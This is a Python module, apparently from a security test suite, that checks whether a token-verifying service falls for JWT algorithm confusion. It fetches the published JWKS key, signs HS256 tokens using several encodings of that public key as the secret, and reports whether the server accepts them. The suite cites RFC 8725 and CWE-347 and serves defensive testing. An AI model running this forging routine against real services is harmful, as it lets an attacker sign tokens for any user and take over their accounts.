"""Tokens signed with the published key, as if it were a secret."""

import json

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from ..attack import Attack
from ..attacker import Attacker
from ..forge import decode, header_of, signed_by_hmac
from ..verdict import Verdict, held, succeeded


def _run(attacker: Attacker) -> Verdict:
    target = attacker.target
    target.require_tokens()
    login = target.log_in()
    header = header_of(login.credential) | {"alg": "HS256"}
    payload = login.credential.split(".")[1]
    published = target.client.send("GET", "/.well-known/jwks.json").json()["keys"]
    if not published:
        raise AssertionError("no key is published")
    for secret in (form for key in published for form in _forms(key)):
        if target.me(login, signed_by_hmac(header, payload, secret)).status == 200:
            return succeeded("A token signed with the public key as its HS256 secret was accepted.")
    return held("No token signed with a published key as its secret was accepted.")


def _forms(key: dict[str, str]) -> list[bytes]:
    """What a careless server may pass to HMAC for this key."""
    forms = [json.dumps(key).encode(), json.dumps(key, separators=(",", ":")).encode()]
    forms += [decode(key["x"]), b""]
    if key.get("crv") == "P-256":
        x, y = (int.from_bytes(decode(key[name]), "big") for name in "xy")
        public = ec.EllipticCurvePublicNumbers(x, y, ec.SECP256R1()).public_key()
        pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
        der = public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
        forms += [pem, pem.strip(), pem.replace(b"\n", b"\r\n"), der]
    return forms


ATTACK = Attack(
    id="forged-confusion",
    title="The public key as an HMAC secret",
    story="An attacker fetches the published key and signs a token with it, as HS256. A library"
    " that lets the token choose the algorithm uses the public key as the secret. The"
    " attacker can sign a token for anybody.",
    references=("RFC 8725 section 2.1", "CWE-347", "ASVS V9.1.2"),
    defences=("signatures of tokens are verified",),
    run=_run,
)
